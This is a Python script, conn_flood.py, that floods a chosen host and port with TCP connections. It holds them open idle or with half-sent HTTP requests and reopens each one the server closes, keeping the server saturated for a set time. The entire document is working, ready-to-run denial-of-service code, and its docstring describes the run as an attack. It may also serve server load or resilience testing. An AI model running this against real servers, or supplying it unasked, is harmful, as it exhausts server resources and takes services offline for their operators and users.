"""conn_flood.py HOST PORT COUNT SECONDS: a connection flood from one source address. Opens
COUNT TCP connections as fast as it can and holds them for SECONDS: half of them send nothing
at all (idle), the other half send the first line of a request and nothing more (half-open
requests). A connection the server closes is opened again at once, so the server faces COUNT
connections for the whole attack. Prints one JSON line: connections opened, refused or reset,
and how many were open at the end."""
import errno
import json
import selectors
import signal
import socket
import sys
import time

host, port, count, secs = sys.argv[1], int(sys.argv[2]), int(sys.argv[3]), float(sys.argv[4])
sel = selectors.DefaultSelector()
opened = failed = closed_by_server = 0
live = 0
end = time.monotonic() + secs


def open_one(i):
    global opened, failed, live
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setblocking(False)
    try:
        s.connect((host, port))
    except BlockingIOError:
        pass
    except OSError:
        failed += 1
        s.close()
        return False
    sel.register(s, selectors.EVENT_WRITE, i)
    opened += 1
    live += 1
    return True


signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))  # stopped early: still report
pending = 0
i = 0
try:
    while time.monotonic() < end:
        # top up to COUNT, a few hundred per round so the selector keeps being served
        burst = 0
        while live < count and burst < 200 and time.monotonic() < end:
            if not open_one(i):
                pending += 1
                break
            i += 1
            burst += 1
        for key, ev in sel.select(timeout=0.05 if live >= count else 0):
            s = key.fileobj
            if ev & selectors.EVENT_WRITE:
                err = s.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR)
                if err:
                    failed += 1
                    sel.unregister(s)
                    s.close()
                    live -= 1
                    continue
                if key.data % 2:
                    try:
                        s.send(b"GET / HTTP/1.1\r\n")
                    except OSError:
                        pass
                sel.modify(s, selectors.EVENT_READ, key.data)
            else:
                try:
                    data = s.recv(4096)
                except OSError as e:
                    data = b"" if e.errno != errno.EAGAIN else None
                if data == b"":
                    closed_by_server += 1
                    sel.unregister(s)
                    s.close()
                    live -= 1
finally:
    print(json.dumps({"opened": opened, "failed": failed, "closed_by_server": closed_by_server,
                      "open_at_end": live}), flush=True)

